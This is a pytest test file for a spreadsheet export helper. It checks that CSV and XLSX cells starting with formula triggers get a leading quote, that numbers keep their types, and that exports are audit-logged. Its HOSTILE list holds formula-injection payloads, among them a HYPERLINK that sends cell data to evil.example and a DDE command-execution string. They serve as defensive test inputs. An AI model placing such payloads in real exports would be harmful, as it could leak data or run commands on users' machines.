"""The export helper: formula triggers escaped the OWASP way, numbers kept as numbers,
and one audit event per export."""

from __future__ import annotations

import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from bellwether.core import exports
from bellwether.core.models import AuditEvent

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote_and_comes_back(text):
    assert exports.cell(text) == "'" + text
    assert exports.unescape(exports.cell(text)) == text


def test_plain_text_numbers_dates_and_empty_cells_are_left_alone():
    values = ["Ann", "O'Brien", "'quoted", "", None, -5, 2.5, Decimal("-1.5"), True]
    values += [date(2026, 1, 5), datetime(2026, 1, 5, 9, 0)]
    assert exports.csv_row(values) == values
    assert exports.unescape("'quoted") == "'quoted"


def test_other_objects_are_written_as_escaped_text():
    class Label:
        def __str__(self) -> str:
            return "=evil()"

    assert exports.cell(Label()) == "'=evil()"


def test_csv_bytes_have_a_bom_and_escaped_cells():
    content = exports.csv_bytes([["name", "score"], ["=1+1", -3]])
    assert content.decode("utf-8") == "\ufeffname,score\r\n'=1+1,-3\r\n"


def test_an_xlsx_row_is_text_not_a_formula_and_keeps_numbers():
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(exports.xlsx_row(["=1+1", -3, "bell\x07", date(2026, 1, 5)]))
    out = io.BytesIO()
    book.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [c.data_type for c in cells] == ["s", "n", "s", "d"]
    assert [c.value for c in cells[:3]] == ["'=1+1", -3, "bell"]


def test_record_export_writes_who_what_and_which_filters(org, members):
    admin = members["admin"].user
    exports.record_export(
        action="people.exported",
        organisation=org,
        actor=admin,
        fmt="csv",
        target=org,
        filters={"q": "ann", "unit": None, "ids": [1, 2], "long": "x" * 500},
        rows=3,
    )
    event = AuditEvent.objects.get(action="people.exported")
    assert (event.actor, event.actor_label, event.organisation) == (admin, admin.email, org)
    assert event.details == {
        "format": "csv",
        "filters": {"q": "ann", "ids": ["1", "2"], "long": "x" * 200},
        "rows": 3,
    }
    assert event.created_at is not None


def test_an_export_without_an_actor_is_recorded_as_the_command_line(org):
    exports.record_export(action="people.exported", organisation=org, actor=None, fmt="xlsx")
    assert AuditEvent.objects.get().actor_label == "command line"
